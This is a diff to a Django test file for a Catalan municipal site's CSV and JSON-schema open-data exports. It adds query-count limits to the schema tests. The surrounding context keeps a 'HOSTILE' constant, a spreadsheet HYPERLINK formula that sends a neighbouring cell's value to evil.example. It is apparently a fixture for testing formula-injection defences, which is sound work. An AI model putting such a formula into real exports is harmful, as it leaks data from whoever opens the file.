@@ -25,6 +25,7 @@ pytestmark = pytest.mark.django_db
 
 MEMBERS_URL = "/qui-som/municipis-adherits/"
 CONTRACTS_URL = "/qui-som/transparencia/contractacio-publica/"
+MAX_QUERIES = 15
 # The example: a cell that sends the row's neighbour to someone else's server.
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&B2,"Obrir")'
 
@@ -104,9 +105,12 @@ class TestMembersOpenData:
         assert row["provincia_nom"] is None
         assert {name: record[name] for name in missing} == dict.fromkeys(missing, "")
 
-    def test_the_schema_describes_the_csv_header_with_codes_as_text(self, client, seeded_site):
+    def test_the_schema_describes_the_csv_header_with_codes_as_text(
+        self, client, seeded_site, django_assert_max_num_queries
+    ):
         csv_response = client.get(f"{MEMBERS_URL}export.csv")
-        schema_response = client.get(f"{MEMBERS_URL}export.schema.json")
+        with django_assert_max_num_queries(MAX_QUERIES):
+            schema_response = client.get(f"{MEMBERS_URL}export.schema.json")
         schema = schema_response.json()
 
         assert schema_response.status_code == 200
@@ -186,10 +190,13 @@ class TestTransparencyOpenData:
         assert {name: data["items"][0][name] for name in missing} == dict.fromkeys(missing)
         assert {name: record[name] for name in missing} == dict.fromkeys(missing, "")
 
-    def test_the_schema_describes_the_csv_header(self, client, contracts):
+    def test_the_schema_describes_the_csv_header(
+        self, client, contracts, django_assert_max_num_queries
+    ):
         TransparencyItemFactory(section=contracts, year=2024)
         csv_response = client.get(CONTRACTS_URL, {"format": "csv", "any": "2024"})
-        schema_response = client.get(CONTRACTS_URL, {"format": "schema"})
+        with django_assert_max_num_queries(MAX_QUERIES):
+            schema_response = client.get(CONTRACTS_URL, {"format": "schema"})
         schema = schema_response.json()
 
         assert schema_response.status_code == 200
